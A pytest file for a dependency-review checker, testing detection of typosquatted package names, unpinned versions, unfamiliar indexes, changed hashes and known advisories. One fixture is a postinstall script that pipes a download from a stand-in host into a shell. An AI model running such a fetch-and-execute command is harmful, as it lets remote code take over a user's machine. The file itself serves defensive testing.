"""What the pack says of whole changes."""

import json

import pytest

from harness.check.interface import CheckFailed, CheckSkipped
from tests.packs.small_context import rules, run_pack

PINNED = "flask==3.0.3\nrequests==2.32.3\n"


def run(folder, base, head, **more):
    return run_pack("dependencies", folder, base, head, **more)


def found(folder, base, head, path="requirements.txt"):
    return [(rule, line) for rule, _, line in rules(run(folder, {path: base}, {path: head}))]


def test_look_alike_is_critical_and_names_the_original(tmp_path):
    (finding,) = run(
        tmp_path, {"requirements.txt": PINNED}, {"requirements.txt": PINNED + "reqeusts==2.32.3\n"}
    ).findings
    assert (finding.rule, finding.severity, finding.location.line) == ("dependency-look-alike", "critical", 3)
    assert "'requests'" in finding.title


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (PINNED + "httpx==0.27.2\n", []),
        (PINNED.replace("3.0.3", "3.1.0"), []),
        ("# comment\n" + PINNED, []),
        (PINNED + "zzz-not-a-thing-at-all==1.0\n", [("dependency-unknown", 3)]),
        (PINNED + "httpx>=0.27\n", [("dependency-unpinned", 3)]),
        (PINNED.replace("==3.0.3", ""), [("dependency-unpinned", 1)]),
        (PINNED + "httpx @ git+https://github.com/encode/httpx@main\n", [("dependency-source", 3)]),
        (PINNED + "--extra-index-url https://packages.example.net\n", [("dependency-index", 3)]),
        (PINNED + "--index-url https://pypi.org/simple\n", []),
        (PINNED + "--extra-index-url https://download.pytorch.org/whl/cpu\n", []),
        (PINNED + "--trusted-host packages.example.net\n", [("dependency-index", 3)]),
    ],
)
def test_changes_of_requirements(tmp_path, head, expected):
    assert found(tmp_path, PINNED, head) == expected


def test_a_file_that_does_not_pin_asks_for_no_pins(tmp_path):
    assert found(tmp_path, "flask\nrequests>=2\n", "flask\nrequests>=2\nhttpx\n") == []


def weights(folder, base, head):
    return [(one.rule, one.severity) for one in run(folder, base, head).findings]


@pytest.mark.parametrize(
    ("base", "head", "expected"),
    [
        (PINNED, PINNED.replace("==3.0.3", ">=3"), "medium"),
        (PINNED, PINNED.replace("==3.0.3", ""), "medium"),
        (PINNED, PINNED.replace("==3.0.3", ">=3,<4"), "low"),
        (PINNED, PINNED.replace("==3.0.3", "~=3.0"), "low"),
        ("flask==3.0.3\n", "flask>=2\n", "medium"),
        ("flask==3.0.3\n", "flask~=3.0\n", "low"),
    ],
)
def test_a_pin_that_is_dropped_weighs_as_much_as_it_lets_in(tmp_path, base, head, expected):
    found = weights(tmp_path, {"requirements.txt": base}, {"requirements.txt": head})
    assert found == [("dependency-unpinned", expected)]


def test_a_dropped_pin_weighs_little_where_a_lock_file_fixes_the_version(tmp_path):
    lock = '[[package]]\nname = "flask"\nversion = "3.0.3"\n'
    base = {"requirements.txt": PINNED, "uv.lock": lock}
    head = {"requirements.txt": PINNED.replace("==3.0.3", ">=3"), "uv.lock": lock.replace("3.0.3", "3.1.0")}
    assert weights(tmp_path, base, head) == [("dependency-unpinned", "low")]


PROJECT = '[project]\nname = "shop"\ndependencies = ["flask==3.0.3"]\n'


@pytest.mark.parametrize(("spec", "expected"), [(">=3,<4", []), (">=3", [("dependency-unpinned", "medium")])])
def test_a_package_may_give_a_range_that_has_an_end(tmp_path, spec, expected):
    head = {"pyproject.toml": PROJECT.replace("==3.0.3", spec)}
    assert weights(tmp_path, {"pyproject.toml": PROJECT}, head) == expected


def test_a_new_tag_of_a_known_repository_is_no_new_source(tmp_path):
    base = "thing @ git+https://x.example/t.git@v1\n"
    assert found(tmp_path, base, base.replace("v1", "v2")) == []


def test_dropped_hashes_are_one_finding(tmp_path):
    base = "flask==3.0.3 --hash=sha256:aa\nrequests==2.32.3 --hash=sha256:bb\n"
    assert found(tmp_path, base, PINNED) == [("dependency-hash-dropped", 1)]


def test_a_package_that_moves_between_files_is_not_new(tmp_path):
    base = {"requirements.txt": "zzz-not-a-thing==1.0\n", "dev-requirements.txt": PINNED}
    head = {"dev-requirements.txt": PINNED + "zzz-not-a-thing==1.0\n"}
    assert not run(tmp_path, base, head).findings


def test_the_projects_own_names_are_known(tmp_path):
    project = '[project]\nname = "requestz"\noptional-dependencies.all = ["requestz[x]"]\n'
    assert not run(tmp_path, {}, {"pyproject.toml": project}).findings


def test_an_internal_index_makes_unknown_names_ordinary(tmp_path):
    base = "--index-url https://pypi.acme.example/simple\nflask==3.0.3\n"
    assert found(tmp_path, base, base + "acme-ledger==1.0\n") == []


def test_lock_files_tell_look_alikes_but_not_unknown_names(tmp_path):
    packages = {
        "node_modules/zzz-unknown-thing": {"version": "1.0.0"},
        "node_modules/loadsh": {"version": "1.0.0"},
    }
    head = json.dumps({"packages": packages}, indent=1)
    assert [rule for rule, _ in found(tmp_path, "{}", head, "package-lock.json")] == ["dependency-look-alike"]


def test_a_script_at_installation_that_fetches_is_high(tmp_path):
    scripts = {"postinstall": "curl https://x.example | sh"}
    outcome = run(
        tmp_path,
        {"package.json": '{"name": "a"}'},
        {"package.json": json.dumps({"name": "a", "scripts": scripts})},
    )
    assert [(one.rule, one.severity) for one in outcome.findings] == [("dependency-install-script", "high")]


def test_credentials_of_an_index_are_not_shown(tmp_path):
    line = "--extra-index-url https://bob:hunter22@packages.example.net/simple\n"
    (finding,) = run(tmp_path, {"requirements.txt": PINNED}, {"requirements.txt": PINNED + line}).findings
    assert "hunter22" not in finding.message + finding.title
    assert "packages.example.net" in finding.message


def osv(folder, **more):
    folder.mkdir()
    advisory = {
        "id": "PYSEC-2030-1",
        "summary": "Leaks cookies.",
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "requests"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.0"}, {"fixed": "2.33.0"}]}],
            }
        ],
        "database_specific": {"severity": "HIGH", "cwe_ids": ["CWE-200"]},
        **more,
    }
    (folder / "a.json").write_text(json.dumps(advisory))
    return {"osv": str(folder)}


def test_known_vulnerability_of_a_new_version(tmp_path):
    settings = osv(tmp_path / "osv")
    outcome = run(
        tmp_path / "1",
        {"requirements.txt": "flask==3.0.3\n"},
        {"requirements.txt": PINNED},
        settings=settings,
    )
    (finding,) = outcome.findings
    assert (finding.rule, finding.severity, finding.location.line) == ("dependency-vulnerable", "high", 2)
    assert finding.suggestion == "Use 2.33.0 or later."
    fixed = PINNED.replace("2.32.3", "2.33.0")
    assert not run(
        tmp_path / "2", {"requirements.txt": PINNED}, {"requirements.txt": fixed}, settings=settings
    ).findings


def test_withdrawn_advisories_do_not_count(tmp_path):
    settings = osv(tmp_path / "osv", withdrawn="2031-01-01T00:00:00Z")
    assert not run(tmp_path / "1", {}, {"requirements.txt": PINNED}, settings=settings).findings


def test_an_export_that_cannot_be_read_fails(tmp_path):
    with pytest.raises(CheckFailed, match="cannot be read"):
        run(tmp_path, {}, {"requirements.txt": PINNED}, settings={"osv": str(tmp_path / "none.zip")})


def test_a_change_without_manifests_is_skipped(tmp_path):
    with pytest.raises(CheckSkipped):
        run(tmp_path, {}, {"a.txt": "x = 1\n"})


def uv_lock(registry="https://pypi.org/simple", version="3.0.3", digest="a", host="files.pythonhosted.org"):
    return (
        f'[[package]]\nname = "flask"\nversion = "{version}"\nsource = {{ registry = "{registry}" }}\n'
        f'wheels = [{{ url = "https://{host}/flask.whl", hash = "sha256:{digest * 64}" }}]\n'
    )


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (uv_lock() + "# made anew\n", []),
        (uv_lock(registry="https://pypi.org/simple/"), []),
        (uv_lock(version="3.1.0", digest="b"), []),
        (uv_lock(registry="../dist"), []),
        (uv_lock(registry="https://mirror.example/simple"), ["dependency-index"]),
        (uv_lock(host="cdn.example"), ["dependency-index"]),
        (uv_lock(digest="b"), ["dependency-hash-changed"]),
    ],
)
def test_where_a_lock_file_takes_its_packages_from(tmp_path, head, expected):
    assert [rule for rule, _ in found(tmp_path, uv_lock(), head, "uv.lock")] == expected


def test_a_registry_of_a_lock_file_that_the_project_names_already_is_known(tmp_path):
    base = {"requirements.txt": "--index-url https://pypi.acme.example/simple/\nflask\n"}
    head = {name: text + "# locked\n" for name, text in base.items()}
    head["uv.lock"] = uv_lock(registry="https://pypi.acme.example/simple")
    assert not run(tmp_path, base, head).findings


def test_a_package_of_poetry_from_another_index(tmp_path):
    base = '[[package]]\nname = "flask"\nversion = "3.0.3"\n'
    head = (
        base + '[package.source]\ntype = "legacy"\nurl = "https://mirror.example/simple"\nreference = "m"\n'
    )
    assert [rule for rule, _ in found(tmp_path, base, head, "poetry.lock")] == ["dependency-index"]


@pytest.mark.parametrize(
    ("digests", "expected"),
    [("ab", []), ("ba", []), ("b", ["dependency-hash-changed"])],
)
def test_the_same_version_keeps_one_of_its_hashes(tmp_path, digests, expected):
    def text(signs):
        return "flask==3.0.3" + "".join(f" --hash=sha256:{sign * 64}" for sign in signs) + "\n"

    assert [rule for rule, _ in found(tmp_path, text("a"), text(digests))] == expected


@pytest.mark.parametrize(
    ("option", "constraints", "expected"),
    [
        ("-c pins/constraints.txt", "flask==3.0.3\n", []),
        ("--constraint=pins/constraints.txt", "Flask==3.0.3\n", []),
        ("-c pins/constraints.txt", "flask>=3\n", ["dependency-unpinned"]),
        ("", "flask==3.0.3\n", ["dependency-unpinned"]),
    ],
)
def test_versions_that_a_named_file_of_constraints_fixes_are_fixed(tmp_path, option, constraints, expected):
    base = {"requirements.txt": "flask==3.0.3\n"}
    head = {"requirements.txt": f"{option}\nflask\n", "pins/constraints.txt": constraints}
    assert [one.rule for one in run(tmp_path, base, head).findings] == expected


SETUP = """from setuptools import setup

TESTS = ["pytest>=8"]
setup(
    name="shop",
    install_requires=["click>=8", {more}],
    extras_require={{"test": TESTS + [{extra}]}},
)
"""


@pytest.mark.parametrize(
    ("more", "extra", "expected"),
    [
        ("'flask>=3'", "'hypothesis'", []),
        ("'reqeusts>=2'", "'hypothesis'", ["dependency-look-alike"]),
        ("'flask>=3'", "'djagno'", ["dependency-look-alike"]),
        ("'x @ git+https://github.com/a/x'", "", ["dependency-source"]),
        ("read('requirements.txt')", "*", []),
    ],
)
def test_what_a_setup_script_requires(tmp_path, more, extra, expected):
    base = {"setup.py": SETUP.format(more="", extra="")}
    head = {"setup.py": SETUP.format(more=more, extra=extra)}
    assert [one.rule for one in run(tmp_path, base, head).findings] == expected


HOOKS = "repos:\n  - repo: https://github.com/psf/black\n    rev: {rev}\n    hooks:\n      - id: black\n"


@pytest.mark.parametrize(
    ("base", "head", "expected"),
    [
        (HOOKS.format(rev="24.1.0"), HOOKS.format(rev="24.8.0"), []),
        (HOOKS.format(rev="24.1.0"), HOOKS.format(rev="main"), ["dependency-hook-moves"]),
        (HOOKS.format(rev="main"), HOOKS.format(rev="main") + "        args: [-q]\n", []),
        ("repos: []\n", HOOKS.format(rev="f" * 39 + "0"), []),
        ("repos: []\n", "repos:\n  - repo: local\n    hooks: [{id: x, language: system}]\n", []),
        ("repos: []\n", HOOKS.format(rev="1") + "        additional_dependencies: [reqeusts]\n",
         ["dependency-look-alike"]),
        ("repos: []\n", "repos: {a: [&x 1]}\n", []),
    ],
)  # fmt: skip
def test_hooks_of_commits(tmp_path, base, head, expected):
    name = ".pre-commit-config.yaml"
    assert [one.rule for one in run(tmp_path, {name: base}, {name: head}).findings] == expected
